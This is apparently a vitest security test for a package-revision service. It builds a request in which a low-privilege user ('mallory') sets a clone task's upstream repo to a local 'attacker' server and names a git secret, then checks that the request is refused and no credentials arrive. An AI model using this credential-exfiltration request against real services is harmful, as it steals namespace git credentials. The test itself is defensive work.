/**
 * A clone task's `clone.upstreamRef.git.secretRef` (Porch's JSON name, the key the clone reads) needs `get` on that
 * secret (docs/access-control.md "Credentials"): otherwise a caller who may only create package revisions makes the
 * service send a namespace's git credentials to a URL of its choosing. The "attacker" server records what reaches it.
 */
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { createWorld, pr, RBAC, type World } from './support/world.js';

let w: World;
let dir: string;
let attacker: Server;
const seen: (string | undefined)[] = [];

beforeAll(async () => {
  attacker = createServer((req, res) => {
    seen.push(req.headers.authorization);
    res.writeHead(401, { 'www-authenticate': 'Basic realm="x"' }).end();
  });
  await new Promise<void>((ok) => attacker.listen(0, '127.0.0.1', ok));
  dir = await mkdtemp(join(tmpdir(), 'porch-clone-secret-'));
  const file = join(dir, 'credentials.json');
  await writeFile(file, JSON.stringify({ 'team-b/github': { username: 'team-b', password: 's3cret' } }));
  process.env.GIT_CREDENTIALS_FILE = file;
  w = await createWorld();
});
afterAll(async () => {
  delete process.env.GIT_CREDENTIALS_FILE;
  await new Promise<void>((ok) => attacker.close(() => ok()));
  await w?.close();
  await rm(dir, { recursive: true, force: true });
});

it('refuses a clone task naming a secret the caller may not get (upstreamRef, as Porch spells it)', async () => {
  const admin = await w.token('root', ['system:masters']);
  const binding = {
    apiVersion: 'rbac.authorization.k8s.io/v1',
    kind: 'RoleBinding',
    metadata: { name: 'creators', namespace: 'team-b' },
    subjects: [{ kind: 'Group', apiGroup: 'rbac.authorization.k8s.io', name: 'thieves' }],
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: 'creator' },
  };
  const role = {
    apiVersion: 'rbac.authorization.k8s.io/v1',
    kind: 'Role',
    metadata: { name: 'creator', namespace: 'team-b' },
    rules: [{ apiGroups: ['porch.kpt.dev'], resources: ['packagerevisions'], verbs: ['create'] }],
  };
  expect((await w.call(admin, 'POST', `${RBAC}/namespaces/team-b/roles`, { body: role })).status).toBe(201);
  expect((await w.call(admin, 'POST', `${RBAC}/namespaces/team-b/rolebindings`, { body: binding })).status).toBe(201);
  const thief = await w.token('mallory', ['thieves']);
  const repo = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}/x.git`;
  const res = await w.call(thief, 'POST', pr('team-b'), {
    body: {
      apiVersion: 'porch.kpt.dev/v1alpha1',
      kind: 'PackageRevision',
      metadata: { namespace: 'team-b' },
      spec: {
        repository: 'blueprints',
        packageName: 'stolen',
        workspaceName: 'ws1',
        tasks: [
          {
            type: 'clone',
            clone: {
              upstreamRef: { type: 'git', git: { repo, ref: 'main', directory: '/', secretRef: { name: 'github' } } },
            },
          },
        ],
      },
    },
  });
  expect(seen.filter(Boolean)).toEqual([]);
  expect(res.status, JSON.stringify(res.body)).toBe(403);
});
